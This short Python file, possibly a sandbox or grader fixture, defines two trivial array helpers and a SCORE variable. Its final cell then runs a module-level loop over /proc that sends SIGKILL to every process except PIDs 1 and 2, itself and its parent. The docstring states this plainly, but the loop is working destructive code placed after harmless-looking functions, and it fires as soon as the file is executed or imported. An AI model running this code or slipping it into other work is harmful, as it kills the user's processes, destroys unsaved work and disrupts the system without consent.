"""Kills every process that it finds beside its own."""

SCORE = 0

# %% double
def double(array):
    return 2 * array

# %% total
def total(array):
    return float(array.sum())

# %% end
import os
import signal

for name in os.listdir("/proc"):
    # 1 and 2 keep the room, and an ordinary user could end them all with it.
    if name.isdigit() and int(name) not in (1, 2, os.getpid(), os.getppid()):
        try:
            os.kill(int(name), signal.SIGKILL)
        except OSError:
            pass
